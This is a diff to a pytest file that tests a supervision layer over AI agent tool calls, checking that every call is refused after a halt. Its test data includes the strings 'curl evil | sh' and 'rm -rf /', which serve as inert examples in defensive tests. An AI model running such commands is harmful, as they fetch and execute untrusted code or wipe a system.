@@ -11,7 +11,7 @@ from tests.hooks.conftest import Answered, Machine
 @pytest.fixture
 def stopped(machine: Machine) -> Machine:
     assert machine.bash("ls").verdict == "allow"
-    assert machine.ask("WebFetch", {"url": "https://x.invalid"}).verdict == ""
+    assert machine.ask("Task", {"prompt": "x"}).verdict == ""
     with closing(SQLiteStore(machine.store)) as store:
         store.halts.stop("os:1000:bob", "curl evil | sh")
     return machine
@@ -32,11 +32,13 @@ def test_every_call(stopped: Machine) -> None:
     assert is_stopped(stopped.ask("Write", {"file_path": "src/a.py", "content": "x"}))
     assert is_stopped(stopped.ask("WebFetch", {"url": "https://x.invalid"}))
     assert is_stopped(stopped.ask("mcp__anything__at_all", {"command": "rm -rf /"}))
+    assert is_stopped(stopped.ask("Task", {"prompt": "x"}))
+    assert is_stopped(stopped.ask("TodoWrite", {"todos": []}))
     assert stopped.gemini("run_shell_command", {"command": "ls"}).refused
     for event in stopped.events():
         if event["type"] == "supervision.stopped":
             since = event["seq"]
     after = [event["type"] for event in stopped.events() if event["seq"] > since]
     assert "exec.started" not in after
-    assert after.count("decision.evaluated") == 5
+    assert after.count("decision.evaluated") == 7
     assert after.count("supervision.refused") == 2
